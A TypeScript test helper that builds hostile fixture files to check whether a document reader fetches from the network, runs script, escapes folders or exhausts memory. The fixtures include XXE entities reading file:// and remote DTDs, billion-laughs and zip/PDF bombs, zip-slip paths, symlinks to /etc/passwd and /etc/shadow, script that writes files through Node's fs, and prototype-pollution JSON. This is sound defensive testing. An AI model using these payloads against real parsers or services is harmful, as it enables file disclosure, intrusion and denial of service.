import { deflateSync, gzipSync } from 'node:zlib'
import { rawZip, type RawEntry } from '../../zip/raw-zip.test-helper.ts'
import { jpegShell, madePng, pngChunk } from '../formats/image/made-image.test-helper.ts'

const MEGABYTE = 1 << 20
/** An address in every place from which a careless reader would load. */
const BEACON = 'https://beacon.example/seen'

/**
 * Files that attack whoever reads them: by loading from the network, running script, reaching for files, growing without end, nesting
 * without end, lying about their sizes, or hiding what they are. By kind and name. `canary` is a path that no reader may write or read.
 */
export const HOSTILE_SETS: Readonly<Record<string, (canary: string) => Record<string, string | Buffer>>> = {
  pages,
  texts,
  archives,
  documents,
  mails,
  data,
  images
}

const ARTICLE =
  '<h1>Board held memo back</h1><p>The harbour board held the memo back for nine days, two officials said on Tuesday.</p><p>The inquiry waits for the board to answer.</p>'

function pages(canary: string): Record<string, string | Buffer> {
  const tags = [
    `<base href="${BEACON}/">`,
    `<link rel="stylesheet" href="${BEACON}.css"><link rel="dns-prefetch" href="//beacon.example"><link rel="preconnect" href="${BEACON}"><link rel="icon" href="${BEACON}.ico"><link rel="import" href="${BEACON}">`,
    `<meta http-equiv="refresh" content="0;url=${BEACON}"><meta http-equiv="Link" content="<${BEACON}>; rel=prefetch">`,
    `<script src="${BEACON}.js"></script><script type="module">import '${BEACON}.mjs'</script>`,
    `<img src="${BEACON}.png" srcset="${BEACON}-2.png 2x" onerror="fetch('${BEACON}')"><picture><source srcset="${BEACON}.webp"></picture>`,
    `<video src="${BEACON}.mp4" poster="${BEACON}.jpg"><track src="${BEACON}.vtt"></video><audio src="${BEACON}.ogg"></audio>`,
    `<iframe src="${BEACON}" srcdoc="<img src='${BEACON}.png'>"></iframe><object data="${BEACON}"></object><embed src="${BEACON}">`,
    `<form action="${BEACON}"><input type="image" src="${BEACON}.png"></form><a ping="${BEACON}" href="${BEACON}">link</a>`,
    `<style>@import url(${BEACON}.css); body { background: url(${BEACON}.png) } @font-face { font-family: x; src: url(${BEACON}.woff) }</style>`,
    `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${BEACON}.svg"/><use href="${BEACON}#x"/><script>fetch('${BEACON}')</script></svg>`,
    `<table background="${BEACON}.png"><tr><td style="background-image: url('${BEACON}.gif')">cell</td></tr></table>`,
    `<link rel="manifest" href="${BEACON}"><body background="${BEACON}.png">`,
    `<noscript><img src="${BEACON}.png"></noscript><template><img src="${BEACON}.png"></template><math href="${BEACON}">x</math>`
  ]
  const scripts = [
    `process.mainModule.require('fs').writeFileSync(${JSON.stringify(canary)}, 'run')`,
    `import('node:fs').then((fs) => fs.writeFileSync(${JSON.stringify(canary)}, 'run'))`,
    `globalThis.constructor.constructor('return process')().getBuiltinModule('fs').writeFileSync(${JSON.stringify(canary)}, 'run')`,
    'while (true);'
  ]
  return {
    'page-that-loads.html': `<!doctype html><html><head><title>Board held memo back</title>${tags.slice(0, 3).join('')}</head><body>${ARTICLE}${tags.slice(3).join('')}</body></html>`,
    'page-with-scripts.html': `<!doctype html><html><body onload="${scripts[0]!.replaceAll('"', '&quot;')}">${scripts.map((script) => `<script>${script}</script>`).join('')}<a href="javascript:${encodeURIComponent(scripts[0]!)}">x</a>${ARTICLE}</body></html>`,
    'deep.html': `<html><body>${'<div>'.repeat(20_000)}${ARTICLE}`,
    'deep-inline.html': `<html><body><p>${'<b><i><u>'.repeat(4_000)}The memo exists.`,
    'many-attributes.html': `<html><body><p ${Array.from({ length: 20_000 }, (_, n) => `a${n}="x"`).join(' ')}>The memo exists.</p>${ARTICLE}</body></html>`,
    'many-elements.html': `<html><body>${ARTICLE}${'<p>x<b>y</b></p>'.repeat(20_000)}</body></html>`,
    'unclosed-comment.html': `<html><body>${ARTICLE}<!-- ${'x'.repeat(MEGABYTE)}`,
    'polluting.html': `<html><head><script type="application/ld+json">{"__proto__":{"polluted":1},"@type":"NewsArticle","constructor":{"prototype":{"polluted":1}},"headline":"Board held memo back"}</script></head><body>${ARTICLE}</body></html>`,
    'deep-json-ld.html': `<html><head><script type="application/ld+json">${'['.repeat(100_000)}</script></head><body>${ARTICLE}</body></html>`,
    'nul.html': `<html><body>\u0000<p>The\u0000 memo\u0000 exists.</p>${ARTICLE}</body></html>`,
    'escapes.html': `<title>Board &#27;]0;owned&#7; held</title>${ARTICLE}`
  }
}

function images(): Record<string, Buffer> {
  return {
    'bomb.png': madePng(1, 1, { claim: [2 ** 31 - 1, 2 ** 31 - 1] }),
    'many-chunks.png': madePng(1, 1, {
      chunks: Array.from({ length: 200_000 }, () => pngChunk('tEXt', Buffer.alloc(0)))
    }),
    'lying-chunk.png': Buffer.from(madePng(1, 1)).fill(0xff, 33, 37),
    'large.jpg': jpegShell(65_500, 65_500),
    'endless-markers.jpg': Buffer.concat([Buffer.from([0xff, 0xd8]), Buffer.alloc(8 * MEGABYTE, 0xff)])
  }
}

function texts(): Record<string, string | Buffer> {
  return {
    'one-line.txt': 'The harbour board held the memo back. '.repeat(60_000),
    'one-word.txt': 'x'.repeat(8 * MEGABYTE),
    'nul.txt': Buffer.from('The memo\0 exists.\n\nThe\0 board waits.\n'),
    'lone-surrogates.txt': Buffer.from([0xff, 0xfe, 0x41, 0, 0, 0xd8, 0x42, 0, 0, 0xdc, 0x0a, 0, 0x43, 0]),
    'bidi\u202Efdp.txt': 'The memo \u202Esaid\u2066 nothing\u2069\u202C.\n\nThe board waits.\n',
    'broken-utf8.txt': Buffer.concat([
      Buffer.from('The board '),
      Buffer.from([0xc3, 0x28, 0xa0, 0xff, 0xfe]),
      Buffer.from(' waits.\n')
    ]),
    'regular.txt': `${'By '.repeat(50_000)}\n${'Published: '.repeat(20_000)}\n${'A, '.repeat(60_000)}(Agency - \n`,
    'spaces.txt': `${' '.repeat(500_000)}x\n${'\n'.repeat(1_000_000)}y`,
    'aliases.md': `---\na: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c]\ntitle: *d\n---\nThe memo exists.\n`,
    'deep.md': `${'> '.repeat(3_000)}The memo exists.\n\n${'- '.repeat(2_000)}x\n\n${'['.repeat(1_500)}`
  }
}

function archives(): Record<string, string | Buffer> {
  const zeros = Buffer.alloc(40 * MEGABYTE)
  const bomb = rawZip([{ name: 'zeros.txt', content: zeros }])
  const shared: RawEntry[] = [
    { name: '0.txt', content: Buffer.alloc(8 * MEGABYTE, 'a') },
    ...Array.from({ length: 400 }, (_, n) => ({
      name: `${n + 1}.txt`,
      content: Buffer.alloc(8 * MEGABYTE, 'a'),
      shares: 0
    }))
  ]
  const nested = [1, 2, 3, 4, 5, 6, 7, 8].reduce<Buffer>(
    (inner, depth) => rawZip([{ name: `level-${depth}.zip`, content: inner }]),
    rawZip([{ name: 'article.html', content: ARTICLE }])
  )
  return {
    'bomb.zip': rawZip(Array.from({ length: 30 }, (_, n) => ({ name: `${n}.zip`, content: bomb }))),
    'overlapping.zip': rawZip(shared),
    'nested.zip': nested,
    'slip.zip': rawZip(
      [
        '../../../../tmp/dossier-slip.html',
        '/etc/dossier-slip.html',
        'C:\\Windows\\slip.html',
        '..\\..\\slip.html',
        'a\u0000b.html',
        'CON',
        'x/../../y.html',
        ''
      ].map((name) => ({ name, content: ARTICLE }))
    ),
    'lying-sizes.zip': rawZip([
      { name: 'small.html', content: Buffer.alloc(4 * MEGABYTE, 'x'), claim: { size: 10 } },
      { name: 'large.html', content: ARTICLE, claim: { size: 0xfffffff0 } },
      { name: 'away.html', content: ARTICLE, claim: { offset: 0xfffffff0 } }
    ]),
    'encrypted.zip': rawZip([{ name: 'secret.html', content: ARTICLE, flags: 0x801 }]),
    'count.zip': rawZip([{ name: 'a.html', content: ARTICLE }], { count: 60_000 }),
    'links.zip': rawZip([{ name: 'link.html', content: '/etc/passwd', mode: 0o120777 }]),
    'bomb.warc.gz': gzipSync(
      Buffer.concat([Buffer.from('WARC/1.1\r\nWARC-Type: response\r\nContent-Length: 999999999\r\n\r\n'), zeros])
    ),
    'lying.warc': `WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: https://harbour.example/\r\nContent-Length: 99999999999999999999\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n${ARTICLE}`,
    'negative.warc': `WARC/1.1\r\nWARC-Type: response\r\nContent-Length: -5\r\n\r\nHTTP/1.1 200 OK\r\n\r\n${ARTICLE}\r\n\r\nWARC/1.1\r\n`,
    'endless-headers.warc': `WARC/1.1\r\n${'X-Header: y\r\n'.repeat(500_000)}`,
    'encodings.warc': warc(
      `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: deflate, deflate, gzip\r\n\r\n`,
      deflateSync(deflateSync(Buffer.alloc(20 * MEGABYTE)))
    )
  }
}

function warc(head: string, body: Buffer): Buffer {
  const block = Buffer.concat([Buffer.from(head), body])
  return Buffer.concat([
    Buffer.from(
      `WARC/1.1\r\nWARC-Type: response\r\nWARC-Target-URI: https://harbour.example/\r\nWARC-Date: 2031-03-04T09:00:00Z\r\nContent-Type: application/http; msgtype=response\r\nContent-Length: ${block.length}\r\n\r\n`
    ),
    block,
    Buffer.from('\r\n\r\n')
  ])
}

function documents(canary: string): Record<string, string | Buffer> {
  const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 12 }, (_, n) => `<!ENTITY a${n + 1} "${`&${n === 0 ? 'a' : `a${n}`};`.repeat(20)}">`).join('')}]>`
  const outside = `<!DOCTYPE x [<!ENTITY file SYSTEM "file://${canary}"><!ENTITY web SYSTEM "${BEACON}"><!ENTITY % dtd SYSTEM "${BEACON}.dtd"> %dtd;]>`
  const word = (head: string, text: string): Buffer =>
    rawZip([
      {
        name: '[Content_Types].xml',
        content:
          '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
      },
      {
        name: '_rels/.rels',
        content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
      },
      {
        name: 'word/_rels/document.xml.rels',
        content: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="${BEACON}.dotm" TargetMode="External"/><Relationship Id="r2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="file://${canary}" TargetMode="External"/></Relationships>`
      },
      {
        name: 'word/document.xml',
        content: `<?xml version="1.0"?>${head}<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>${text}</w:t></w:r></w:p><w:p><w:r><w:t>The board waits.</w:t></w:r></w:p></w:body></w:document>`
      }
    ])
  const open = (head: string, text: string): Buffer =>
    rawZip([
      { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 },
      {
        name: 'content.xml',
        content: `<?xml version="1.0"?>${head}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"><office:body><office:text><text:p>${text}</text:p><text:p>The board waits.</text:p></office:text></office:body></office:document-content>`
      }
    ])
  const book = (head: string, text: string): Buffer =>
    rawZip([
      { name: 'mimetype', content: 'application/epub+zip', method: 0 },
      {
        name: 'META-INF/container.xml',
        content:
          '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="book.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
      },
      {
        name: 'book.opf',
        content: `<?xml version="1.0"?>${head}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest><item id="a" href="../../..${canary}" media-type="application/xhtml+xml"/><item id="b" href="b.xhtml" media-type="application/xhtml+xml"/></manifest><spine><itemref idref="a"/><itemref idref="b"/></spine></package>`
      },
      { name: 'b.xhtml', content: `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>${text}</p></body></html>` }
    ])
  return {
    'laughs.docx': word(laughs, '&a12;'),
    'outside.docx': word(outside, '&file; &web; The memo exists.'),
    'bomb.docx': rawZip([
      { name: '[Content_Types].xml', content: '<Types/>' },
      { name: 'word/document.xml', content: Buffer.alloc(200 * MEGABYTE, ' ') }
    ]),
    'laughs.odt': open(laughs, '&a12;'),
    'outside.odt': open(outside, '&file; &web; The memo exists.'),
    'spaces.odt': open('', 'x<text:s text:c="2000000000"/>y'),
    'outside.epub': book(outside, '&file; The memo exists.'),
    'deep.rtf': `{\\rtf1 ${'{'.repeat(300_000)}The memo exists.`,
    'object.rtf': `{\\rtf1{\\object\\objdata ${'41'.repeat(500_000)}}{\\field{\\*\\fldinst INCLUDEPICTURE "${BEACON}.png"}}\\bin9999999 The memo exists.\\par}`,
    'actions.pdf': `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("${BEACON}"))>>/AA<</WC<</S/URI/URI(${BEACON})>>>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>>endobj\n4 0 obj<</Length 44>>stream\nBT /F 9 Tf 1 1 Td (The memo exists.) Tj ET\nendstream endobj\n5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\ntrailer<</Root 1 0 R>>\n`,
    'loop.pdf':
      '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R/Prev 0>>\n',
    'stream-bomb.pdf': pdfBomb(),
    'cut.pdf': '%PDF-1.7\n1 0 obj<</Type/Catalog'
  }
}

function pdfBomb(): Buffer {
  const data = deflateSync(deflateSync(Buffer.alloc(100 * MEGABYTE, ' '), { level: 9 }))
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>endobj\n4 0 obj<</Filter[/FlateDecode/FlateDecode]/Length ${data.length}>>stream\n`
    ),
    data,
    Buffer.from('\nendstream endobj\ntrailer<</Root 1 0 R>>\n')
  ])
}

function mails(): Record<string, string | Buffer> {
  const head =
    'From: Tove Lind <tove@harbour.example>\r\nTo: desk@courier.example\r\nSubject: The memo\r\nDate: Tue, 4 Mar 2031 09:00:00 +0000\r\nMIME-Version: 1.0\r\n'
  let deep = head
  for (let n = 0; n < 10_000; n++) deep += `Content-Type: multipart/mixed; boundary="b${n}"\r\n\r\n--b${n}\r\n`
  const many = Array.from(
    { length: 5000 },
    (_, n) =>
      `--b\r\nContent-Type: text/plain; name="${n}.txt"\r\nContent-Disposition: attachment; filename="../../${n}.txt"\r\n\r\nPart ${n}.\r\n`
  )
  return {
    'deep.eml': deep,
    'mails-in-mails.eml': mailsInMails(head, 1000, false),
    'many-parts.eml': `${head}Content-Type: multipart/mixed; boundary="b"\r\n\r\n${many.join('')}--b--\r\n`,
    'long-header.eml': `From: x@harbour.example\r\nSubject: ${'=?utf-8?q?x?= '.repeat(300_000)}\r\nDate: never\r\n\r\nThe memo exists.\r\n`,
    'boundary.eml': `${head}Content-Type: multipart/mixed; boundary=""\r\n\r\n--\r\n\r\nThe memo exists.\r\n`,
    'loading.eml': `${head}Content-Type: text/html\r\n\r\n<img src="${BEACON}.png"><link rel="stylesheet" href="${BEACON}.css">${ARTICLE}\r\n`,
    'external.eml': `${head}Content-Type: message/external-body; access-type=URL; URL="${BEACON}"\r\n\r\nContent-Type: text/plain\r\n\r\n`,
    'endless.mbox': 'From x Tue Mar  4 09:00:00 2031\n'.repeat(100_000),
    'line.mbox': `From x Tue Mar  4 09:00:00 2031\nSubject: x\n\n${'y'.repeat(4 * MEGABYTE)}`,
    'loading.mhtml': `From: <Saved by Blink>\r\nSnapshot-Content-Location: https://harbour.example/memo\r\nSubject: The memo\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: https://harbour.example/memo\r\n\r\n<html><head><link rel="stylesheet" href="${BEACON}.css"></head><body><img src="${BEACON}.png">${ARTICLE}</body></html>\r\n--b--\r\n`
  }
}

/** A mail that holds a mail that holds a mail, directly or as a part beside a text. */
export function mailsInMails(head: string, levels: number, inParts: boolean): string {
  let mail = `${head}\r\nThe innermost text.\r\n`
  for (let n = levels - 1; n > 0; n--) {
    mail = inParts
      ? `${head}Content-Type: multipart/mixed; boundary="m${n}x"\r\n\r\n--m${n}x\r\nContent-Type: text/plain\r\n\r\nText ${n}.\r\n--m${n}x\r\nContent-Type: message/rfc822\r\n\r\n${mail}\r\n--m${n}x--\r\n`
      : `${head}Content-Type: message/rfc822\r\n\r\n${mail}`
  }
  return mail
}

function data(): Record<string, string | Buffer> {
  return {
    'pollution.json':
      '[{"__proto__":{"polluted":1},"type":"article","title":"The memo","constructor":{"prototype":{"polluted":1}}}]',
    'deep.json': `${'['.repeat(500_000)}`,
    'endless.bib': `@article{x, title = {${'{'.repeat(200_000)}`,
    'strings.bib': `${Array.from({ length: 20 }, (_, n) => `@string{s${n + 1} = ${`s${n} # `.repeat(10)}""}`).join('\n')}\n@article{x, title = s20}`,
    'files.bib': '@article{x, title = {The memo}, file = {:../../../../etc/passwd:text/plain;/etc/shadow:text/plain}}',
    'endless.ris': `TY  - NEWS\n${'AU  - Lind, Tove\n'.repeat(300_000)}`,
    'unknown.bin': Buffer.from(Array.from({ length: 4096 }, (_, n) => (n * 197) % 256)),
    'empty.html': '',
    'image.html': Buffer.from('89504e470d0a1a0a0000000d4948445200000001', 'hex')
  }
}
